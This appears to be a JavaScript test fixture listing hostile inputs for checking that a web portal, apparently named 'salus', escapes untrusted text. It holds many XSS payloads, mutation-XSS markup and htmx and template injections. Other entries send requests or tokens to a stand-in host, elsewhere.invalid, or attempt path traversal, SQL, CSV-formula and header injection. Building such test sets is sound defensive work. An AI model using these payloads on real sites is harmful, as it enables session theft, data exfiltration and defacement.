// Strings that try to run, to ask elsewhere, to leave their place or to deceive. Our own, by the ways
// in which pages have been broken: each of HIT, SHOW and AWAY is a different trap of the test.
const HIT = '__hit(1)';
const AWAY = 'http://elsewhere.invalid/x';

/** Each way that markup gets to script. */
const scripts = [
  `<script>${HIT}</script>`, `<ScRiPt>${HIT}</sCrIpT>`, `<script >${HIT}</script >`,
  `<script/x>${HIT}</script>`, `<script\n>${HIT}</script\n>`, `<script src="${AWAY}.js"></script>`,
  `<script src=//elsewhere.invalid/x.js></script>`, `<script type="module">${HIT}</script>`,
  `<script type="text/plain">a</script><script>${HIT}</script>`, `<<script>${HIT}//<</script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`, `<script>${HIT}`, `</script><script>${HIT}</script>`,
  `<script>//\u2028${HIT}</script>`, `<script>/*</p>*/${HIT}</script>`,
  `<script src="data:text/javascript,${HIT}"></script>`, `<script nonce="">${HIT}</script>`,
  `<noscript><p title="</noscript><script>${HIT}</script>"></noscript>`,
  `<template><script>${HIT}</script></template>`, `<script>import("${AWAY}.js")</script>`,
  `"><script>${HIT}</script>`, `'><script>${HIT}</script>`, `--><script>${HIT}</script>`,
  `]]><script>${HIT}</script>`, `</title><script>${HIT}</script>`, `</textarea><script>${HIT}</script>`,
  `</style><script>${HIT}</script>`, `</time></p></li></ul><script>${HIT}</script>`,
  `</pre></code></details><script>${HIT}</script>`, `</iframe><script>${HIT}</script>`,
];

/** Handlers of events, those that fire by themselves first. */
const handlers = [
  `<img src=x onerror=${HIT}>`, `<img src=x onerror="${HIT}">`, `<img src=x onerror='${HIT}'>`,
  `<img/src=x/onerror=${HIT}>`, `<img src=x\tonerror=${HIT}>`, `<img src=x\fonerror=${HIT}>`,
  `<img src onerror=${HIT}>`, `<img srcset=x onerror=${HIT}>`, `<IMG SRC=x ONERROR=${HIT}>`,
  `<image src=x onerror=${HIT}>`, `<img """><script>${HIT}</script>">`,
  `<svg onload=${HIT}>`, `<svg/onload=${HIT}>`, `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><set onbegin=${HIT} attributename=x>`, `<svg><image href=x onerror=${HIT}>`,
  `<body onload=${HIT}>`, `<body onpageshow=${HIT}>`, `<body onhashchange=${HIT}>`,
  `<input autofocus onfocus=${HIT}>`, `<select autofocus onfocus=${HIT}></select>`,
  `<textarea autofocus onfocus=${HIT}></textarea>`, `<button autofocus onfocus=${HIT}>b</button>`,
  `<a href=# autofocus onfocus=${HIT}>a</a>`, `<div tabindex=0 autofocus onfocus=${HIT}>d</div>`,
  `<details open ontoggle=${HIT}>d</details>`, `<video src=x onerror=${HIT}></video>`,
  `<video><source onerror=${HIT}></video>`, `<audio src=x onerror=${HIT}></audio>`,
  `<marquee onstart=${HIT}>m</marquee>`, `<iframe onload=${HIT}></iframe>`,
  `<object data=x onerror=${HIT}></object>`, `<embed src=x onerror=${HIT}>`,
  `<link rel=stylesheet href=x onerror=${HIT}>`, `<style onload=${HIT}></style>`,
  `<p onmouseover=${HIT}>over</p>`, `<p onclick=${HIT}>click</p>`, `<p oncontentvisibilityautostatechange=${HIT}>p</p>`,
  `<p onanimationstart=${HIT} style="animation:x 1s">a</p>`, `<p ontransitionend=${HIT}>t</p>`,
  `<form onsubmit=${HIT}><input type=submit></form>`, `<input onbeforeinput=${HIT}>`,
  `<dialog open onclose=${HIT}>d</dialog>`, `<p popover onbeforetoggle=${HIT}>p</p>`,
  `" onmouseover="${HIT}`, `' onmouseover='${HIT}`, `" autofocus onfocus="${HIT}" x="`,
  `x" onerror="${HIT}" src="x`, `\` onerror=${HIT} \``,
];

/** Addresses that are script. */
const addresses = [
  `javascript:${HIT}`, `JaVaScRiPt:${HIT}`, `java\tscript:${HIT}`, `java\nscript:${HIT}`, `\u0001javascript:${HIT}`,
  `javascript&colon;${HIT}`, `&#106;avascript:${HIT}`, `javascript://%0a${HIT}`, `javascript:/*x*/${HIT}`,
  `<a href="javascript:${HIT}">a</a>`, `<a href=" javascript:${HIT}">a</a>`, `<a href="&#x6a;avascript:${HIT}">a</a>`,
  `<a href="javascript\u0000:${HIT}">a</a>`, `<a href="data:text/html,<script>${HIT}</script>">a</a>`,
  `<a href="vbscript:${HIT}">a</a>`, `<a xlink:href="javascript:${HIT}">a</a>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=20>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${HIT}>#x"/></svg>`,
  `<math href="javascript:${HIT}">m</math>`, `<math><mi xlink:href="javascript:${HIT}">m</mi></math>`,
  `<form action="javascript:${HIT}"><input type=submit></form>`,
  `<button formaction="javascript:${HIT}">b</button>`, `<isindex action="javascript:${HIT}">`,
  `<iframe src="javascript:${HIT}"></iframe>`, `<embed src="javascript:${HIT}">`,
  `<object data="javascript:${HIT}"></object>`, `<base href="javascript:${HIT}//">`,
  `<area href="javascript:${HIT}" shape=default>`, `<a href="blob:x" ping="${AWAY}">a</a>`,
  `<img src="javascript:${HIT}">`, `<video poster="javascript:${HIT}"></video>`,
];

/** Markup that changes its meaning when it is read a second time. */
const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  `<math><mi><style><a title="</style><img src onerror=${HIT}>"></style></mi></math>`,
  `<svg><title><style><a title="</style><img src=x onerror=${HIT}>">`,
  `<svg><desc><style><img title="</style><img src=x onerror=${HIT}>">`,
  `<svg><foreignObject><style><a title="</style><img src=x onerror=${HIT}>">`,
  `<noscript><style></noscript><img src=x onerror=${HIT}></style>`,
  `<noembed><img title="</noembed><img src=x onerror=${HIT}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${HIT}>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=${HIT}>"></xmp>`, `<plaintext><img src=x onerror=${HIT}>`,
  `<listing>&lt;img src=x onerror=${HIT}&gt;</listing>`, `<title><img title="</title><img src=x onerror=${HIT}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${HIT}>">`, `<select><style></select><img src=x onerror=${HIT}></style>`,
  `<table><td><math><mtext></table><img src=x onerror=${HIT}>`, `<!--><img src=x onerror=${HIT}>-->`,
  `<!--x--!><img src=x onerror=${HIT}>`, `<!-- --\u0000> <img src=x onerror=${HIT}>`, `<![CDATA[<img src=x onerror=${HIT}>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=${HIT}>]]>`, `<?xml ?><img src=x onerror=${HIT}>`, `<!DOCTYPE x [<!ENTITY e "x">]><img src=x onerror=${HIT}>`,
  `<a title="&quot;><img src=x onerror=${HIT}>">a</a>`, `<p id="x\u0060><img src=x onerror=${HIT}>">p</p>`,
  `<annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${HIT}>">`,
  `<math><annotation-xml encoding="text/html"><p><script>${HIT}</script></p></annotation-xml></math>`,
  `<svg><script>${HIT}</script></svg>`, `<svg><script href="data:text/javascript,${HIT}"/></svg>`,
  `<svg><style>{font-family:'<img src=x onerror=${HIT}>'}</style></svg>`, `<ruby><rp><math></rp><img src=x onerror=${HIT}>`,
];

/** What asks elsewhere without a script, or takes the page away. */
const elsewhere = [
  `<img src="${AWAY}.png">`, `<img srcset="${AWAY}.png 2x">`, `<picture><source srcset="${AWAY}.png"><img></picture>`,
  `<link rel=stylesheet href="${AWAY}.css">`, `<link rel=preload as=image href="${AWAY}.png">`,
  `<link rel=prefetch href="${AWAY}">`, `<link rel=dns-prefetch href="//elsewhere.invalid">`,
  `<style>@import "${AWAY}.css"</style>`, `<style>*{background:url(${AWAY}.png)}</style>`,
  `<p style="background:url(${AWAY}.png)">p</p>`, `<p style="list-style:url(${AWAY}.png)">p</p>`,
  `<p style="position:fixed;inset:0;z-index:999;background:red">all</p>`,
  `<style>input[value^=a]{background:url(${AWAY}?a)}</style>`, `<style>@font-face{font-family:x;src:url(${AWAY})}*{font-family:x}</style>`,
  `<iframe src="${AWAY}"></iframe>`, `<iframe srcdoc="<script>top.${HIT}</script>"></iframe>`,
  `<frameset><frame src="${AWAY}"></frameset>`, `<object data="${AWAY}"></object>`, `<embed src="${AWAY}">`,
  `<video src="${AWAY}.mp4" autoplay></video>`, `<audio src="${AWAY}.mp3" autoplay></audio>`,
  `<video><track default src="${AWAY}.vtt"></video>`, `<input type=image src="${AWAY}.png">`,
  `<body background="${AWAY}.png">`, `<table background="${AWAY}.png"><tr><td>t</td></tr></table>`,
  `<svg><image href="${AWAY}.png"/></svg>`, `<svg><use href="${AWAY}.svg#x"/></svg>`, `<svg><filter><feImage href="${AWAY}.png"/></filter></svg>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`, `<meta http-equiv="refresh" content="0;url=javascript:${HIT}">`,
  `<meta http-equiv=set-cookie content="salus_session=planted">`, `<meta name=referrer content=unsafe-url>`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<base href="${AWAY}/">`, `<base target=_blank>`,
  `<form action="${AWAY}"><button autofocus>b</button></form>`, `<a href="${AWAY}" target=_top>a</a>`,
  `<img src='${AWAY}?`, `<img src="${AWAY}?`, `<form action='${AWAY}?`, `<textarea name=x form=y>`, `<option><plaintext>`, `<a href='${AWAY}?`,
  `<portal src="${AWAY}"></portal>`, `<link rel=manifest href="${AWAY}">`, `<link rel=import href="${AWAY}">`,
];

/** What the libraries of our pages would heed. */
const libraries = [
  `<p hx-get="/portal/sign-out" hx-trigger="load">p</p>`, `<p hx-get="${AWAY}" hx-trigger="load">p</p>`,
  `<p hx-post="/portal/sign-out" hx-trigger="load">p</p>`, `<p data-hx-get="${AWAY}" data-hx-trigger="load">p</p>`,
  `<p hx-on:click="${HIT}">p</p>`, `<p hx-on::load="${HIT}">p</p>`, `<p hx-on--after-init="${HIT}">p</p>`,
  `<p hx-vals="js:{a:${HIT}}" hx-get="/portal" hx-trigger="load">p</p>`, `<p hx-trigger="load[${HIT}]" hx-get="/portal">p</p>`,
  `<p hx-swap-oob="true" id="main">gone</p>`, `<p hx-include="[name=token]" hx-get="${AWAY}" hx-trigger=load>p</p>`,
  `<salus-live src="${AWAY}"></salus-live>`, `<salus-seal data-ref="x" data-src="${AWAY}" state="valid">Sealed and unchanged</salus-seal>`,
  `<salus-chart><div data-part=plot></div></salus-chart>`, `<salus-sign data-patient="x" data-kind="code"></salus-sign>`,
  `<template id="salus-seal"><span data-say="valid">${HIT}</span></template>`,
  '{ $name }', '{ -brand }', '{ patients-go }', '{"{"}', '{ $count -> [one] x *[other] y }', '{{constructor.constructor("__hit(1)")()}}',
  '${__hit(1)}', '#{__hit(1)}', '<%= __hit(1) %>', '{% raw %}', '{{7*7}}', '[[${7*7}]]', '(PreEscaped(x))', 'html! { script { } }', '@if true { script }',
  '%{__hit(1)}', '`__hit(1)`', '__proto__', 'constructor', '"+__hit(1)+"', "'-__hit(1)-'", '\\"-__hit(1)//', '</script>', '<!--<script>',
];

/** What looks like something else, or breaks who reads it. */
const deceptions = [
  '\u202Egnp.exe', 'safe\u202Etxt.js', '\u2066Ada\u2069', '\u200B\u200C\u200D', '\uFEFFAda', 'A\u0301\u0301\u0301\u0301\u0301\u0301\u0301', '\uD83D\uDE00'.repeat(20),
  '＜script＞__hit(1)＜/script＞', '\u2028__hit(1)\u2029', 'аda', 'İi̇ıI', 'ﷺ'.repeat(10), '\uFFFD\uFFFE', '\u0085next', 'a\u0000b', '<\u0000script>__hit(1)</script>', '<scr\u0000ipt>__hit(1)</script>',
  'x'.repeat(2_000), 'W'.repeat(400), '&lt;script&gt;__hit(1)&lt;/script&gt;', '&#60;script&#62;__hit(1)&#60;/script&#62;', '&amp;lt;script&amp;gt;', '&#x3c;img src=x onerror=__hit(1)&#x3e;', '&nbsp;', '&notit;', '%3Cscript%3E__hit(1)%3C/script%3E', '\\u003cscript\\u003e__hit(1)', '+ADw-script+AD4-__hit(1)',
  '../../../etc/passwd', '..\\..\\x', '//elsewhere.invalid', 'C:\\x', 'con', '?tab=timeline&saved=x', '#main', "' OR 1=1 --", '"; DROP TABLE', '=HYPERLINK("http://elsewhere.invalid")', '@SUM(1)', 'a\r\nSet-Cookie: planted=1', 'a\r\n\r\n<script>__hit(1)</script>', 'null', 'undefined', '[object Object]', '-1', '1e999',
];

export const HOSTILE = [
  ...scripts, ...handlers, ...addresses, ...mutations, ...elsewhere, ...libraries, ...deceptions,
];
